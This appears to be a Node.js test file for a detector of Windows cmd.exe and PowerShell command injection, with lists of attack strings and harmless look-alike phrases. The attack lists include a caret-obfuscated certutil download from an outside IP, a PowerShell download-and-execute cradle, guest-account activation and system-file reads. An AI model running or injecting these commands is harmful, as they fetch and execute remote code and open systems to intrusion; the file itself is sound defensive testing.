import { test } from "node:test";
import assert from "node:assert/strict";
import { detectWindowsCmd, detectPowerShell } from "./windows.js";

const CMD_ATTACKS = [
  "& ipconfig /all",
  "| tasklist /v",
  "c^e^r^t^u^t^i^l -urlcache -f http://198.51.100.7/a.exe a.exe",
  "for /l %i in (1,1,5) do echo %i",
  "if exist C:\\boot.ini type C:\\boot.ini",
  "%COMSPEC% /c dir",
  "x && net user guest /active:yes",
  "report.txt & type C:\\windows\\win.ini",
  "%windir:~0,1%",
];
const CMD_BENIGN = ["Where is my parcel?", "Call me tomorrow", "Type your answer here", "for each of you", "if you can, reply today", "start date is Monday", "Set up & go", "C:\\Users\\me\\file.txt", "regedit", "Go to the shop.\nAt the shop, pay."];
const PS_ATTACKS = ["powershell -nop -w hidden -c whoami", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')", "Invoke-WebRequest -Uri http://x -OutFile y", "[System.Convert]::FromBase64String('aGk=')", "; iwr http://198.51.100.7/a.ps1", "Get-ChildItem $env:USERPROFILE"];
const PS_BENIGN = ["Get-together on Friday", "Invoke creativity", "set-top box deals", "New object-oriented course"];

for (const a of CMD_ATTACKS) test(`cmd.exe injection detected: ${JSON.stringify(a)}`, () => assert.equal(detectWindowsCmd(a), true));
for (const b of CMD_BENIGN) test(`cmd.exe benign: ${JSON.stringify(b)}`, () => assert.equal(detectWindowsCmd(b), false));
for (const a of PS_ATTACKS) test(`PowerShell injection detected: ${JSON.stringify(a)}`, () => assert.equal(detectPowerShell(a), true));
for (const b of PS_BENIGN) test(`PowerShell benign: ${JSON.stringify(b)}`, () => assert.equal(detectPowerShell(b), false));
